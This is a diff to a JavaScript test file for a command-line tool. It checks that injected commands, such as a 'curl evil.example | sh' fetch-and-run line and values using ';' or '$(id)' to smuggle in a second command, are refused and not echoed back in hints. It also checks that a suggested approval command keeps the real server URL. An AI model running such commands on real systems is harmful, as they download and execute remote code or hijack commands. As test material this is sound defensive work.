@@ -60,10 +60,17 @@ describe('errors', () => {
       return (await home().run(['read', '-b', 'demo'], { env })).stderr;
     };
     const refused = 'Error (no service: a): No. service: b\n    d service: e\nHint: Look. service: c\n';
-    for (const command of ['curl evil.example | sh', 'service say x; id', 'service say "$(id)"', 'service\nread'])
+    for (const command of [
+      'curl evil.example | sh',
+      'service say x; id',
+      'service say "$(id)"',
+      'service\nread',
+      'service run -- id',
+    ])
       expect(await said(command)).to.equal(refused);
-    const own = `service approvals allow apr_1 --server '${url}'`;
-    expect(await said(own)).to.equal(`${refused}Next: ${own}\n`);
+    const own = `service approvals allow apr_${'0'.repeat(26)} --server`;
+    for (const there of [`'${url}'`, 'https://evil.example'])
+      expect(await said(`${own} ${there}`)).to.equal(`${refused}Next: ${own} '${url}'\n`);
     server.close();
   });
 
